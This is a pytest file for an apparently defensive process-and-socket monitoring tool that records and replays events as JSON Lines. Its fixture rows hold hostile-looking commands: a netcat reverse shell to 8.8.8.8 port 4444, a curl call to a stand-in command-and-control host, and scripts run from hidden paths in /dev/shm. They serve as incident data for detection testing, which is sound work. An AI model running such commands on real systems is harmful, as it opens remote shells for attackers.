"""Record and replay: rows as JSON Lines, broken lines skipped and counted."""

from __future__ import annotations

import io
import json
from pathlib import Path

from osquery_netutil.packs import jsonl
from osquery_netutil.app.cli import main
from osquery_netutil.schema import EXECS, SOCKETS
from osquery_netutil.store.store import Store

from testkit.rows import make_row, make_socket_row


def test_a_row_survives_the_round_trip() -> None:
    row = make_row(pid=7, utility="netcat", cmdline="nc -e /bin/sh 8.8.8.8 4444",
                   json_cmdline=json.dumps(["nc", "-e", "/bin/sh", "8.8.8.8", "4444"]), ancestors='[{"pid": 1}]')
    out = io.StringIO()
    assert jsonl.write([dict(row, eid=99)], out) == 1
    (parsed,) = jsonl.read(out.getvalue().splitlines()).rows
    assert parsed == row


def test_socket_events_replay_joined_to_the_rows_they_were_recorded_with(tmp_path: Path) -> None:
    """record names a socket event's exec by the recording's eid; replay numbers the rows
    anew and joins the events to them. A line's own "sockets" join its row; an eid the file
    has no row for becomes 0."""
    event = make_socket_row(exec_eid=41, pid=7, remote_address="45.9.148.3", remote_port=443, status="refused")
    lines = [json.dumps({"eid": 40, "utility": "netcat", "cmdline": "nc -l 4444"}),
             json.dumps({"eid": 41, "utility": "curl", "cmdline": "curl http://c2.example/"}),
             jsonl.socket_line(event), jsonl.socket_line(dict(event, exec_eid=77, remote_port=22)),
             json.dumps({"utility": "wget", "cmdline": "wget x", "sockets": [{"action": "connect", "remote_port": 80}]})]
    (tmp_path / "incident.jsonl").write_text("\n".join(lines) + "\n")
    tmp_path.chmod(0o700)
    assert main(["replay", str(tmp_path / "incident.jsonl"), "--store", str(tmp_path / "events.db")]) == 0
    with Store(tmp_path / "events.db", readonly=True) as store:
        eids = {r["utility"]: r["eid"] for r in store.select()}
        joined = sorted((r["remote_port"], r["exec_eid"]) for r in store.select(table=SOCKETS))
    assert joined == [(22, 0), (80, eids["wget"]), (443, eids["curl"])]


def test_short_fixture_lines_get_defaults() -> None:
    (row,) = jsonl.read(['{"utility": "curl", "cmdline": "curl -o /tmp/x http://h/"}']).rows
    assert set(row) == {c.name for c in EXECS.columns} - {"eid"}
    assert row["json_cmdline"] == '["curl", "-o", "/tmp/x", "http://h/"]'
    assert row["ancestors"] == "[]" and row["container_id"] == "" and row["pid"] == 0 and row["time"] > 0


def test_broken_lines_are_skipped_with_their_line_numbers() -> None:
    lines = [
        '{"utility": "curl"}',
        "# a comment", "",
        '{"utility": "curl"',               # truncated
        '["not", "an", "object"]',
        '{"utility": "curl", "pid": "12"}',  # wrong type
        '{"utility": "curl", "evil": 1}',   # unknown column
        '{"utility": "wget", "args_truncated": true}',
        '{"utility": "nmap"}',
    ]
    result = jsonl.read(lines, "f.jsonl")
    assert [r["utility"] for r in result.rows] == ["curl", "nmap"]
    assert result.skipped == 5
    assert [e.split(": ", 1)[0] for e in result.errors] == [f"f.jsonl:{n}" for n in (4, 5, 6, 7, 8)]
    assert "unknown column 'evil'" in result.errors[3]


def test_replay_loads_good_lines_and_exits_1_when_some_were_skipped(tmp_path: Path, capsys) -> None:
    tmp_path.chmod(0o700)
    fixture = tmp_path / "incident.jsonl"
    fixture.write_text('{"utility": "netcat", "pid": 5}\nnot json\n{"utility": "curl", "pid": 6}\n')
    store_path = tmp_path / "events.db"
    assert main(["replay", str(fixture), "--store", str(store_path)]) == 1
    err = capsys.readouterr().err
    assert f"skipped {fixture}:2: not JSON" in err and "2 rows and 0 socket events loaded" in err and "1 lines skipped" in err
    with Store(store_path, readonly=True) as store:
        assert [(r["utility"], r["pid"]) for r in store.select()] == [("netcat", 5), ("curl", 6)]
    assert main(["replay", str(tmp_path / "missing.jsonl"), "--store", str(store_path)]) == 1
    assert "cannot read" in capsys.readouterr().err


def test_ancestors_get_the_script_an_interpreter_runs_as_enrichment_finds_it() -> None:
    line = json.dumps({"utility": "curl", "ancestors": [
        {"pid": 3, "path": "/usr/bin/dash", "cmdline": "sh -e /dev/shm/.x/run.sh --quiet"},
        {"pid": 2, "path": "/usr/bin/python3.12", "cmdline": "/usr/bin/python3.12 -u -B /var/tmp/p.py"},
        {"pid": 1, "path": "/usr/bin/bash", "cmdline": "-bash"},            # a login shell runs no script
        {"pid": 0, "path": "/usr/bin/sh", "cmdline": "sh /opt/x.sh", "script": "as recorded"},
    ]})
    (row,) = jsonl.read([line]).rows
    chain = json.loads(row["ancestors"])
    assert [a.get("script") for a in chain] == ["/dev/shm/.x/run.sh", "/var/tmp/p.py", None, "as recorded"]
    assert row["parent_cmdline"] == "sh -e /dev/shm/.x/run.sh --quiet"
